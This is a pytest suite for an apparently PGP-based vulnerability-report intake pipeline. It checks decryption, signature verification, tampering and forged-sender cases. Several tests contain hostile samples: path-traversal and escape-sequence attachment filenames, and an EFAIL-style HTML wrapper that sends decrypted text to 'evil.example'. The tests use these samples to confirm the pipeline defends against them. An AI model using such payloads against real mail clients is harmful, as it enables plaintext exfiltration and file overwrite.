"""Provides end-to-end intake tests with the real gpg: compose a report, run process_batch, check the verdict."""

from __future__ import annotations

import hashlib
import threading
from datetime import UTC, datetime
from email.message import EmailMessage
from typing import Any

import pytest

from gpg_fixtures import (
    OTHER_EMAIL,
    REPORTER_EMAIL,
    STRANGER_EMAIL,
    TEAM_EMAIL,
    GpgWorld,
    pgpmime_envelope,
    rfc2440_encrypt,
)
from triage_tui.compose import encrypt_pgpmime, inline_pgp, mime_report, plain, sign_pgpmime
from triage_tui.domain import Decryption, Signature, SignatureScope
from triage_tui.intake.pipeline import GnuPG, process_batch
from triage_tui.intake.records import IntakeFailure, ParsedMessage

SECRET = "The resolver trusts sdist metadata; PoC attached. Caf\u00e9 \u2013 trailing   \nsecond line\n"
SUBJECT = "Heap overflow in the resolver"
ALL_BYTES = bytes(range(256))


def report(sender: str = f"Rep <{REPORTER_EMAIL}>", **overrides: Any) -> EmailMessage:
    values: dict[str, Any] = {
        "subject": SUBJECT,
        "sender": sender,
        "to": TEAM_EMAIL,
        "body": SECRET,
        "date": datetime(2026, 3, 3, 9, 0, tzinfo=UTC),
        "message_id": "<report-1@example.org>",
    }
    values.update(overrides)
    return mime_report(**values)


def one(raw: bytes, gnupg: GnuPG) -> ParsedMessage:
    [result] = process_batch([raw], gnupg)
    assert isinstance(result, ParsedMessage), result
    return result


def test_encrypted_unsigned_with_protected_subject(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(report(), gpg_world.reporter.gpg, [gpg_world.team.fingerprint])
    assert SUBJECT.encode() not in raw
    msg = one(raw, team_gnupg)
    assert msg.verdict.encrypted
    assert msg.verdict.decryption is Decryption.OK
    assert msg.verdict.signature is Signature.UNSIGNED
    assert msg.verdict.signer_fingerprint is None
    assert msg.verdict.scope is SignatureScope.WHOLE
    assert msg.subject == SUBJECT
    assert msg.body == SECRET.rstrip("\n")
    assert msg.message_id == "<report-1@example.org>"
    assert msg.date == datetime(2026, 3, 3, 9, 0, tzinfo=UTC)
    assert msg.content_hash == hashlib.sha256(raw).hexdigest()
    assert msg.verdict.error is None


def test_signed_and_encrypted_combined_with_attachments(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    attachments = [("poc.bin", "application/octet-stream", ALL_BYTES), ("notes.txt", "text/plain", b"step 1\n")]
    raw = encrypt_pgpmime(
        report(attachments=attachments),
        gpg_world.reporter.gpg,
        [gpg_world.team.fingerprint],
        sign_with=gpg_world.reporter.fingerprint,
    )
    msg = one(raw, team_gnupg)
    assert msg.verdict.decryption is Decryption.OK
    assert msg.verdict.signature is Signature.GOOD
    assert msg.verdict.signer_fingerprint == gpg_world.reporter.fingerprint
    assert any(REPORTER_EMAIL in uid for uid in msg.verdict.signer_uids)
    assert msg.verdict.warnings == ()
    assert msg.body == SECRET.rstrip("\n")
    assert "trailing   \n" in msg.body
    by_name = {a.filename: a for a in msg.attachments}
    assert set(by_name) == {"poc.bin", "notes.txt"}
    assert by_name["poc.bin"].data == ALL_BYTES
    assert by_name["poc.bin"].size == 256
    assert by_name["poc.bin"].sha256 == hashlib.sha256(ALL_BYTES).hexdigest()
    assert by_name["notes.txt"].data == b"step 1\n"
    assert by_name["poc.bin"].content_type == "application/octet-stream"


def test_sign_then_encrypt_verifies_inner_multipart_signed(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(
        report(),
        gpg_world.reporter.gpg,
        [gpg_world.team.fingerprint],
        sign_with=gpg_world.reporter.fingerprint,
        sign_then_encrypt=True,
    )
    msg = one(raw, team_gnupg)
    assert msg.verdict.decryption is Decryption.OK
    assert msg.verdict.signature is Signature.GOOD
    assert msg.verdict.signer_fingerprint == gpg_world.reporter.fingerprint
    assert msg.verdict.scope is SignatureScope.WHOLE
    assert msg.subject == SUBJECT
    assert msg.body == SECRET.rstrip("\n")


def test_bad_signature_inside_encryption(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    signed = sign_pgpmime(report(), gpg_world.reporter.gpg, gpg_world.reporter.fingerprint)
    tampered = signed.replace(b"resolver trusts", b"resolver TRUSTS", 1)
    assert tampered != signed
    # Only the entity (from Content-Type on) goes inside, as a sign-then-encrypt sender would put it.
    entity = tampered[tampered.index(b"Content-Type: multipart/signed") :]
    enc = gpg_world.reporter.gpg.encrypt(entity, [gpg_world.team.fingerprint], always_trust=True, armor=True)
    assert enc.ok
    msg = one(pgpmime_envelope(enc.data), team_gnupg)
    assert msg.verdict.decryption is Decryption.OK
    assert msg.verdict.signature is Signature.BAD
    assert msg.verdict.signer_fingerprint is None
    assert msg.verdict.signer_uids == ()


def test_multipart_signed_cleartext_good_tampered_and_lf(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = sign_pgpmime(report(), gpg_world.reporter.gpg, gpg_world.reporter.fingerprint)
    good = one(raw, team_gnupg)
    assert good.verdict.encrypted is False
    assert good.verdict.decryption is Decryption.NOT_ENCRYPTED
    assert good.verdict.signature is Signature.GOOD
    assert good.verdict.signer_fingerprint == gpg_world.reporter.fingerprint
    assert good.verdict.scope is SignatureScope.WHOLE
    assert good.body == SECRET.rstrip("\n")
    # A Maildir stores LF line endings; the signature is over the CRLF canonical form and must still verify.
    assert one(raw.replace(b"\r\n", b"\n"), team_gnupg).verdict.signature is Signature.GOOD
    tampered = one(raw.replace(b"second line", b"second LINE", 1), team_gnupg)
    assert tampered.verdict.signature is Signature.BAD
    assert tampered.verdict.signer_fingerprint is None


def test_inline_pgp_whole(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = inline_pgp(
        report(), gpg_world.reporter.gpg, [gpg_world.team.fingerprint], sign_with=gpg_world.reporter.fingerprint
    )
    assert b"-----BEGIN PGP MESSAGE-----" in raw
    msg = one(raw, team_gnupg)
    assert msg.verdict.encrypted
    assert msg.verdict.decryption is Decryption.OK
    assert msg.verdict.signature is Signature.GOOD
    assert msg.verdict.scope is SignatureScope.WHOLE
    assert msg.body == SECRET
    assert msg.unauthenticated_text == ""


def test_inline_pgp_with_cleartext_around(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    armour = gpg_world.reporter.gpg.encrypt(SECRET.encode(), [gpg_world.team.fingerprint], always_trust=True).data
    text = "Hi team, click http://evil.example/ first\n\n" + armour.decode() + "\nPS: urgent!\n"
    msg_obj = report(body=text)
    msg = one(plain(msg_obj), team_gnupg)
    assert msg.verdict.decryption is Decryption.OK
    assert msg.verdict.scope is SignatureScope.PARTIAL
    assert msg.body == SECRET
    assert "click http://evil.example/" in msg.unauthenticated_text
    assert "PS: urgent!" in msg.unauthenticated_text
    assert "evil" not in msg.body
    assert any("outside the PGP block" in w for w in msg.verdict.warnings)


def test_plain_report(team_gnupg: GnuPG) -> None:
    msg = one(plain(report(references=["<a@x>", "<b@x>"], in_reply_to="<b@x>")), team_gnupg)
    assert msg.verdict.encrypted is False
    assert msg.verdict.decryption is Decryption.NOT_ENCRYPTED
    assert msg.verdict.signature is Signature.UNSIGNED
    assert msg.verdict.scope is SignatureScope.NONE
    assert msg.body == SECRET.rstrip("\n")
    assert msg.references == ("<a@x>", "<b@x>")
    assert msg.in_reply_to == "<b@x>"
    assert msg.sender_name == "Rep"
    assert msg.sender_email == REPORTER_EMAIL


def test_protected_from_differs_from_outer(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(
        report(sender=f"Other <{OTHER_EMAIL}>"),
        gpg_world.other.gpg,
        [gpg_world.team.fingerprint],
        sign_with=gpg_world.other.fingerprint,
    )
    outer_forged = raw.replace(f"From: Other <{OTHER_EMAIL}>".encode(), f"From: Rep <{REPORTER_EMAIL}>".encode(), 1)
    assert outer_forged != raw
    msg = one(outer_forged, team_gnupg)
    assert msg.sender_email == OTHER_EMAIL
    assert msg.subject == SUBJECT
    assert any("protected From" in w and REPORTER_EMAIL in w for w in msg.verdict.warnings)
    # The signer matches the protected From, so there is no signer warning.
    assert not any("signer key does not match" in w for w in msg.verdict.warnings)


def test_hostile_attachment_filenames(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(
        report(attachments=[("../../etc/passwd", "application/octet-stream", b"x")]),
        gpg_world.reporter.gpg,
        [gpg_world.team.fingerprint],
    )
    assert one(raw, team_gnupg).attachments[0].filename == "passwd"
    handmade = (
        b"From: r@example.org\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b"--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
        b"--b\r\nContent-Type: application/octet-stream\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''..%2F..%2Fhome%2Fpa%1B%5B31mss%E2%80%AEfdp.exe\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\nAAEC\r\n"
        b'--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=".."\r\n\r\nz\r\n'
        b"--b--\r\n"
    )
    msg = one(handmade, team_gnupg)
    first, second = msg.attachments
    assert "/" not in first.filename and "\x1b" not in first.filename and "\u202e" not in first.filename
    assert first.filename == "pa\u241b[31mss<U+202E>fdp.exe"
    assert first.data == b"\x00\x01\x02"
    assert second.filename == "attachment-2"
    assert msg.body == "see attached"


def test_unknown_signer(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(
        report(sender=f"Stranger <{STRANGER_EMAIL}>"),
        gpg_world.stranger.gpg,
        [gpg_world.team.fingerprint],
        sign_with=gpg_world.stranger.fingerprint,
    )
    msg = one(raw, team_gnupg)
    assert msg.verdict.decryption is Decryption.OK
    assert msg.verdict.signature is Signature.UNKNOWN_KEY
    assert msg.verdict.signer_fingerprint is None
    assert any(gpg_world.stranger.fingerprint in w for w in msg.verdict.warnings)
    assert msg.body == SECRET.rstrip("\n")


def test_no_mdc_plaintext_discarded(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    inner = plain(report(subject="no mdc"))
    armour = rfc2440_encrypt(gpg_world.reporter, gpg_world.team.fingerprint, inner)
    msg = one(pgpmime_envelope(armour), team_gnupg)
    assert msg.verdict.encrypted
    assert msg.verdict.decryption is Decryption.NO_INTEGRITY
    assert msg.body == ""
    assert msg.attachments == ()
    assert msg.subject == "..."
    assert msg.verdict.error and "integrity" in msg.verdict.error


def test_not_encrypted_to_us(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(report(), gpg_world.reporter.gpg, [gpg_world.outsider.fingerprint])
    msg = one(raw, team_gnupg)
    assert msg.verdict.decryption is Decryption.NO_SECRET_KEY
    assert msg.body == ""
    assert msg.verdict.error


def test_corrupted_ciphertext(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(report(), gpg_world.reporter.gpg, [gpg_world.team.fingerprint])
    start = raw.index(b"-----BEGIN PGP MESSAGE-----")
    lines = raw[start:].split(b"\r\n")
    middle = lines[4]
    lines[4] = middle[:10] + (b"A" if middle[10:11] != b"A" else b"B") + middle[11:]
    msg = one(raw[:start] + b"\r\n".join(lines), team_gnupg)
    assert msg.verdict.decryption is Decryption.FAILED
    assert msg.body == ""
    assert msg.verdict.error


def test_signer_does_not_match_from(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(
        report(),  # From claims the reporter
        gpg_world.other.gpg,
        [gpg_world.team.fingerprint],
        sign_with=gpg_world.other.fingerprint,
    )
    msg = one(raw, team_gnupg)
    assert msg.verdict.signature is Signature.GOOD
    assert msg.verdict.signer_fingerprint == gpg_world.other.fingerprint
    assert any(OTHER_EMAIL in uid for uid in msg.verdict.signer_uids)
    assert any("signer key does not match From" in w for w in msg.verdict.warnings)


def test_signed_part_wrapped_in_unsigned_mixed(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    signed = sign_pgpmime(report(), gpg_world.reporter.gpg, gpg_world.reporter.fingerprint)
    entity = signed[signed.index(b"Content-Type: multipart/signed") :]
    wrapped = (
        b"From: Rep <reporter@example.org>\r\nSubject: wrapped\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="wrap"\r\n\r\n'
        b"--wrap\r\nContent-Type: text/plain\r\n\r\nAttacker text: pay now.\r\n"
        b"--wrap\r\n" + entity + b"\r\n--wrap--\r\n"
    )
    msg = one(wrapped, team_gnupg)
    assert msg.verdict.signature is Signature.UNSIGNED
    assert msg.verdict.scope is SignatureScope.PARTIAL
    assert msg.verdict.signer_fingerprint is None
    assert any("signed part is nested" in w for w in msg.verdict.warnings)


def test_efail_mixed_html_encrypted_html_not_merged(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    raw = encrypt_pgpmime(report(), gpg_world.reporter.gpg, [gpg_world.team.fingerprint])
    entity = raw[raw.index(b"Content-Type: multipart/encrypted") :]
    efail = (
        b"From: Rep <reporter@example.org>\r\nSubject: efail\r\nMIME-Version: 1.0\r\n"
        b'Content-Type: multipart/mixed; boundary="ef"\r\n\r\n'
        b'--ef\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
        b"--ef\r\n" + entity + b"\r\n"
        b'--ef\r\nContent-Type: text/html\r\n\r\n">\r\n'
        b"--ef--\r\n"
    )
    msg = one(efail, team_gnupg)
    assert msg.verdict.encrypted is False
    assert msg.verdict.decryption is Decryption.NOT_ENCRYPTED
    assert msg.verdict.scope is SignatureScope.PARTIAL
    assert msg.html_parts == 2
    assert "resolver" not in msg.body and "evil" not in msg.body
    assert msg.body == ""
    assert any("EFAIL" in w for w in msg.verdict.warnings)


@pytest.mark.parametrize("garbage", [b"", b"\x00\x01\xff garbage \x1b[2J", b"just some words\nwithout headers\n"])
def test_garbage_item_is_an_intake_failure(garbage: bytes, team_gnupg: GnuPG) -> None:
    [result] = process_batch([garbage], team_gnupg)
    assert isinstance(result, IntakeFailure)
    assert result.raw == garbage
    assert "not an email" in result.reason


def test_batch_mixed_good_and_bad_keeps_order(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    rep, team = gpg_world.reporter, gpg_world.team
    raws = [
        encrypt_pgpmime(report(subject="first"), rep.gpg, [team.fingerprint], sign_with=rep.fingerprint),
        b"\x00garbage",
        encrypt_pgpmime(report(subject="third"), rep.gpg, [gpg_world.outsider.fingerprint]),
        plain(report(subject="fourth")),
        pgpmime_envelope(b"-----BEGIN PGP MESSAGE-----\n\nnot really\n-----END PGP MESSAGE-----\n"),
        encrypt_pgpmime(report(subject="sixth"), rep.gpg, [team.fingerprint]),
    ]
    results = process_batch(raws, team_gnupg)
    assert len(results) == 6
    assert [r.raw for r in results] == raws
    first, second, third, fourth, fifth, sixth = results
    assert isinstance(first, ParsedMessage) and first.subject == "first"
    assert first.verdict.signature is Signature.GOOD
    assert isinstance(second, IntakeFailure)
    assert isinstance(third, ParsedMessage) and third.verdict.decryption is Decryption.NO_SECRET_KEY
    assert isinstance(fourth, ParsedMessage) and fourth.subject == "fourth"
    assert isinstance(fifth, ParsedMessage) and fifth.verdict.decryption is Decryption.FAILED
    assert isinstance(sixth, ParsedMessage) and sixth.subject == "sixth" and sixth.body == SECRET.rstrip("\n")


def test_two_threads_share_one_gnupg(gpg_world: GpgWorld, team_gnupg: GnuPG) -> None:
    rep, team = gpg_world.reporter, gpg_world.team
    raws = [
        encrypt_pgpmime(report(subject=f"s{i}"), rep.gpg, [team.fingerprint], sign_with=rep.fingerprint)
        for i in range(8)
    ]
    out: dict[int, list[ParsedMessage | IntakeFailure]] = {}

    def run(key: int, chunk: list[bytes]) -> None:
        out[key] = process_batch(chunk, team_gnupg)

    threads = [threading.Thread(target=run, args=(k, raws[k * 4 : k * 4 + 4])) for k in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    subjects = [r.subject for k in (0, 1) for r in out[k] if isinstance(r, ParsedMessage)]
    assert subjects == [f"s{i}" for i in range(8)]
    assert all(isinstance(r, ParsedMessage) and r.verdict.signature is Signature.GOOD for k in (0, 1) for r in out[k])
